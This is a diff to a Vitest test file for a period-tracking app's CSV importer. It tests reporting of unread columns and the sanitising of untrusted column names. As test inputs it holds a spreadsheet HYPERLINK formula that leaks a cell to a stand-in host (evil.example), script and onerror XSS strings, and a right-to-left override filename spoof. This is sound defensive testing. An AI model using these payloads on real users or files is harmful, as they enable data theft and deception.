@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { NOTE_MAX, type StoredDay } from '../../client/calc/body-signs/stored-day.ts'
 import {
+  COLUMN_NAME_MAX,
   CYCLE_FILE_FORMAT,
   type CycleFile,
   cycleFileName,
@@ -8,7 +9,9 @@ import {
   importPlan,
   LISTED_REJECTIONS,
   MAX_IMPORT_BYTES,
+  NAMED_COLUMNS,
   parseCycleFile,
+  unreadColumns,
 } from '../../client/calc/cycle-file.ts'
 import { MAX_PERIODS, type StoredPeriod } from '../../client/calc/cycle-log.ts'
 import { MAX_IMPORT_DAYS } from '../../client/calc/import-limits.ts'
@@ -260,6 +263,87 @@ describe('CSV with a header', () => {
     )
     const file = read(['date,a,b,bleeding.value,bleeding.exclude', ...days].join('\n'))
     expect(file.periods).toEqual([{ start: '2026-09-01', excluded: false }])
+  })
+})
+
+describe('columns not read (review m5, decision 073)', () => {
+  it('names the columns of a CSV that hold something and are not read, in the file’s order', () => {
+    const file = read(
+      [
+        'Date;Temperature;Empty;End;Notes;Excluded',
+        '2026-08-10;36.4;;2026-08-14;;',
+        '2026-09-08;;;;felt fine;yes',
+        ';;;;;',
+      ].join('\n'),
+    )
+    expect(file.periods).toEqual([
+      { start: '2026-08-10', end: '2026-08-14', excluded: false },
+      { start: '2026-09-08', excluded: true },
+    ])
+    expect(file.unread).toEqual({ names: ['Temperature', 'Notes'], more: 0 })
+    // Every column read, or empty: nothing named.
+    expect(read('start,end,excluded,Mood\n2026-08-10,,,\n').unread).toBeUndefined()
+    // One date per line has no header, so no column to name.
+    expect(read('2026-08-10,36.4\n2026-09-08\n').unread).toBeUndefined()
+  })
+
+  it('names the columns a converter’s CSV with drip’s bleeding column holds beside it', () => {
+    const file = read('Date,bleeding.value,bleeding.exclude,temperature.value\n2026-10-01,2,false,36.5\n')
+    expect(file.kind).toBe('drip')
+    expect(file.unread).toEqual({ names: ['temperature.value'], more: 0 })
+    // drip's own file, through its reader: drip's "false" is what was not logged.
+    const drip = read('date,bleeding.value,pain.cramps,sex.solo\n2026-10-01,2,true,false\n')
+    expect(drip.unread).toEqual({ names: ['pain.cramps'], more: 0 })
+  })
+
+  it('names 10,000 columns as the first few and a count, with the file refused for nothing', () => {
+    const names = Array.from({ length: 10_000 }, (_, i) => `Column ${i}`)
+    const file = read(
+      [['Date', ...names].join(','), ['2026-10-01', ...names.map(() => 'x')].join(',')].join('\n'),
+    )
+    expect(file.periods).toEqual([{ start: '2026-10-01', excluded: false }])
+    expect(file.unread).toEqual({ names: names.slice(0, NAMED_COLUMNS), more: 10_000 - NAMED_COLUMNS })
+  })
+
+  describe('unreadColumns: a stranger’s names made fit to show', () => {
+    it('strips line breaks, NUL and other control and format characters, and trims', () => {
+      expect(
+        unreadColumns([
+          'Temp\r\nerature',
+          ' Notes\u0000 ',
+          '\tLH\u0007 test\u007F',
+          'Cramps\u0085\u2028pain',
+          // Bidirectional overrides and zero-width characters, which could make a name read backwards.
+          '\u202Egnp.exe\u202C\u200B\uFEFF',
+        ]).names,
+      ).toEqual(['Temp erature', 'Notes', 'LH test', 'Cramps pain', 'gnp.exe'])
+    })
+
+    it('keeps markup and formulas as the letters they are, cut to the longest name shown', () => {
+      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+      const { names } = unreadColumns(['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', formula])
+      expect(names[0]).toBe('<script>alert(1)</script>')
+      expect(names[1]).toBe('<img src=x onerror=alert(1)>')
+      expect(names[2]).toBe(`${formula.slice(0, COLUMN_NAME_MAX - 1)}…`)
+      expect([...(names[2] ?? '')]).toHaveLength(COLUMN_NAME_MAX)
+    })
+
+    it('cuts by characters, not UTF-16 units, and a pile of combining marks too', () => {
+      const [emoji, zalgo] = unreadColumns(['🩸'.repeat(100), `a${'\u0301'.repeat(5_000)}`]).names
+      expect([...(emoji ?? '')]).toEqual([...'🩸'.repeat(COLUMN_NAME_MAX - 1), '…'])
+      expect([...(zalgo ?? '')]).toHaveLength(COLUMN_NAME_MAX)
+    })
+
+    it('drops empty names and repeats, in any case, and counts the rest after the first few', () => {
+      expect(unreadColumns(['', '  ', '\r\n', 'Notes', 'notes', 'NOTES ', 'Mood'])).toEqual({
+        names: ['Notes', 'Mood'],
+        more: 0,
+      })
+      const many = unreadColumns(Array.from({ length: 10_000 }, (_, i) => `c${i % 5_000}`))
+      expect(many.names).toEqual(Array.from({ length: NAMED_COLUMNS }, (_, i) => `c${i}`))
+      expect(many.more).toBe(5_000 - NAMED_COLUMNS)
+      expect(unreadColumns([])).toEqual({ names: [], more: 0 })
+    })
   })
 })
 
